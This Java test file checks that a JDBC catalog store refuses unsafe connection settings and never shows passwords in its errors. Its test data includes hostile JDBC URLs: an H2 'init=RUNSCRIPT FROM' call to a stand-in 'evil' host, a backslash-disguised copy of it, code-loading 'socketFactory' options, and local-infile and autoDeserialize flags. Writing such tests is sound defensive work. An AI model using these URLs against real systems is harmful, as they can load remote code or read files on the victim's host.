package dev.pintle.backend.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.pintle.spi.SetupScripts;
import dev.pintle.spi.Store;
import dev.pintle.spi.StoreException;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Optional;
import org.assertj.core.api.AbstractThrowableAssert;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Settings that are refused, and in which words. */
final class JdbcConfigTest {
  private static final String SECRET = "hunter2secret";

  @TempDir Path folder;

  private String uri() {
    return "jdbc:sqlite:" + folder.resolve("c.db");
  }

  private static AbstractThrowableAssert<?, ?> refused(String uri, String... keysAndValues) {
    return assertThatThrownBy(() -> Databases.open(uri, keysAndValues))
        .isInstanceOf(StoreException.InvalidConfig.class)
        .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
  }

  @Test
  void anUnsupportedDatabaseIsRefusedWithThoseThatAre() {
    refused("jdbc:oracle:thin:h?password=" + SECRET)
        .hasMessageContaining(
            "jdbc:postgresql: or jdbc:mariadb: or jdbc:mysql: or jdbc:sqlite: or jdbc:h2:")
        .hasMessageNotContaining(SECRET);
  }

  @Test
  void anUnknownSettingIsRefusedWithASuggestion() {
    refused(uri(), "jdbc.strict-mod", "true").hasMessageContaining("jdbc.strict-mode");
    refused(uri(), "jdbc.busy_timeot", "1").hasMessageContaining("'jdbc.busy_timeout'");
    assertThat(folder).isEmptyDirectory();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://lake:" + SECRET + "@host/db",
        "jdbc:postgresql://lake:a/" + SECRET + "@host/db",
        "jdbc:postgresql://lake:a?" + SECRET + "@host/db",
        "jdbc:postgresql:lake:" + SECRET + "@",
        "jdbc:postgresql://h1:1,lake:" + SECRET + "@h2/db",
        "jdbc:mariadb://lake:" + SECRET + "@host/db",
        "lake:" + SECRET + "@host/db"
      })
  void credentialsInTheUrlAreRefusedAndNotShown(String url) {
    refused(url)
        .hasMessageContaining("'jdbc.user'")
        .hasMessageContaining("'jdbc.password'")
        .hasMessageNotContaining(SECRET)
        .hasNoCause();
    assertThat(new JdbcUrl(url).toString()).doesNotContain(SECRET);
  }

  @Test
  void aDriverOptionIsPassedOn() {
    Databases.open(uri(), "jdbc.busy_timeout", "5").close();
  }

  @ParameterizedTest
  @ValueSource(strings = {"socketFactory", "sslfactory", "authenticationPluginClassName"})
  void optionsThatLoadCodeAreRefusedUnlessNamed(String option) {
    String server = "jdbc:postgresql://localhost:1/d";
    refused(server + "?" + option + "=evil.Code").hasMessageContaining(option);
    refused(server, "jdbc." + option, "evil.Code").hasMessageContaining(option);
    assertThatThrownBy(
            () ->
                Databases.open(
                    server, "jdbc." + option, "evil.Code", "jdbc.allow-unsafe-options", option))
        .isInstanceOf(StoreException.Unavailable.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:mariadb://h/d?allowLocalInfile=true",
        "jdbc:mariadb://h/d?socketFactory=evil.Code",
        "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://evil'",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Code'"
      })
  void optionsThatLoadCodeOrTouchFilesAreRefusedOnEveryDatabase(String uri) {
    refused(uri).hasMessageContaining("jdbc.allow-unsafe-options");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:mariadb://h/d?useAffectedRows=true",
        "jdbc:mariadb://h/d?transactionReplay=true",
        "jdbc:mariadb://h/d?TRANSACTIONREPLAY=true",
        "jdbc:mariadb://h/d?autoReconnect=true",
        "jdbc:mariadb://h/d?allowMultiQueries=true",
        "jdbc:h2:mem:x;LOCK_MODE=0",
        "jdbc:h2:./x;AUTO_SERVER=TRUE",
        "jdbc:h2:./x;FILE_LOCK=NO",
        "jdbc:h2:mem:x;MODE=MySQL"
      })
  void optionsThatBreakTheContractAreRefused(String uri) {
    refused(uri).hasMessageContaining("is refused:").hasMessageContaining("leave it out");
  }

  /** H2 would take the backslash out, and find the option that is refused. */
  @Test
  void anOptionInDisguiseIsRefused() {
    refused("jdbc:h2:mem:x;IN\\IT=RUNSCRIPT FROM 'http://evil'").hasMessageContaining("backslash");
  }

  @Test
  void anOptionIsOffOnlyIfTheUrlAndTheSettingsSaySo() {
    refused("jdbc:mariadb://h/d?allowLocalInfile=true", "jdbc.allowLocalInfile", "false")
        .hasMessageContaining("allowLocalInfile");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:mariadb:replication://a,b/d",
        "jdbc:mariadb:sequential://a/d",
        "jdbc:mariadb://a,b/d",
        "jdbc:mariadb://address=(host=a)(autoDeserialize=true)/d",
        "jdbc:mariadb://h",
        "jdbc:mariadb://h/"
      })
  void oneServerAndOneDatabaseAreToBeNamed(String uri) {
    refused(uri).hasMessageContaining("jdbc:mariadb://host:port/database");
  }

  /** It is the user's to add, here as anywhere. */
  @Test
  void theDriverOfMySqlIsNamedWhereItIsMissing() {
    refused("jdbc:mysql://h/d")
        .hasMessageContaining("com.mysql.cj.jdbc.Driver")
        .hasMessageContaining("com.mysql:mysql-connector-j");
  }

  @Test
  void scriptsAreThereForEveryDatabaseThatCanBeOpened() {
    SetupScripts scripts = new JdbcStoreProvider().setupScripts().orElseThrow();
    assertThat(scripts.dialects())
        .containsExactlyInAnyOrder("h2", "mariadb", "mysql", "postgresql", "sqlite");
    assertThat(scripts.script("mysql", Optional.empty()))
        .hasSize(2)
        .allMatch(sql -> sql.endsWith("COLLATE utf8mb4_0900_bin"));
    assertThatThrownBy(() -> scripts.script("oracle", Optional.empty()))
        .isInstanceOf(StoreException.InvalidConfig.class)
        .hasMessageContaining("h2, mariadb, mysql, postgresql, sqlite");
    assertThatThrownBy(() -> scripts.script("h2", Optional.of("V7")))
        .isInstanceOf(StoreException.InvalidConfig.class)
        .hasMessageContaining("V7");
  }

  @Test
  void readsFromStandbysAreRefused() {
    refused("jdbc:postgresql://a,b/d?loadBalanceHosts=true").hasMessageContaining("lag behind");
  }

  @Test
  void theNamesOfSealsAreRefusedAsCatalogs() {
    refused(uri(), "catalog-name", "c/pintle-seals").hasMessageContaining("c/pintle-seals");
  }

  @Test
  void aMissingFolderIsRefusedAndNotCreated() {
    refused("jdbc:sqlite:" + folder.resolve("no/such/c.db"))
        .hasMessageContaining(folder.resolve("no/such").toString());
    assertThat(folder).isEmptyDirectory();
  }

  @Test
  void anEmptyDatabaseIsNotTouchedWhereTablesMayNotBeCreated() {
    Sql.execute(uri(), "PRAGMA user_version = 1");
    refused(uri(), "jdbc.init-catalog-tables", "false")
        .hasMessageContaining(
            "it lacks the table iceberg_tables and the table iceberg_namespace_properties")
        .hasMessageContaining("jdbc.init-catalog-tables=true");
    assertThat(Sql.query(uri(), "SELECT name FROM sqlite_schema")).isEmpty();
  }

  @Test
  void aMissingFileIsNotCreatedWhereTablesMayNotBe() {
    refused(uri(), "jdbc.init-catalog-tables", "false")
        .hasMessageContaining("there is no such database")
        .hasMessageContaining("pintle init");
    assertThat(folder).isEmptyDirectory();
  }

  @Test
  void anUpgradeThatMayNotBeMadeIsNamed() {
    Databases.open(uri(), "jdbc.schema-version", "V0").close();
    refused(uri(), "jdbc.init-catalog-tables", "false", "jdbc.schema-version", "V1")
        .hasMessageContaining("it lacks the column iceberg_type of the table iceberg_tables");
  }

  @Test
  void anUnreachableServerIsUnavailableAndNamedWithoutItsPassword() {
    assertThatThrownBy(
            () ->
                Databases.open(
                    "jdbc:postgresql://localhost:1/d?user=u&password=" + SECRET,
                    "jdbc.password",
                    SECRET))
        .isInstanceOf(StoreException.Unavailable.class)
        .hasMessageContaining("jdbc:postgresql://localhost:1/d")
        .hasMessageNotContaining(SECRET)
        .hasMessageNotContaining("\n");
  }

  @Test
  void aFileThatIsNoDatabaseIsUnavailable() throws Exception {
    Files.writeString(folder.resolve("c.db"), "no database at all".repeat(100));
    assertThatThrownBy(() -> Databases.open(uri())).isInstanceOf(StoreException.Unavailable.class);
  }

  @Test
  void aDriverThatTheContextLoaderLacksIsFoundBesideUs() throws Exception {
    Thread thread = Thread.currentThread();
    ClassLoader before = thread.getContextClassLoader();
    try (URLClassLoader bare =
        new URLClassLoader(new URL[0], ClassLoader.getPlatformClassLoader())) {
      thread.setContextClassLoader(bare);
      // our own loader still has it: engines put both on one class path
      try (Store store = Databases.open(uri())) {
        assertThat(store.describe()).startsWith("SQLite");
      }
    } finally {
      thread.setContextClassLoader(before);
    }
  }

  @Test
  void nothingSecretIsShown() {
    JdbcStoreConfig config =
        JdbcStoreConfig.parse(
            Databases.config(
                "jdbc:postgresql://u:" + SECRET + "@h/d?password=" + SECRET,
                "jdbc.password",
                SECRET,
                "jdbc.sslpassword",
                SECRET));
    assertThat(config.toString()).doesNotContain(SECRET).contains("jdbc:postgresql://h/d");
  }
}
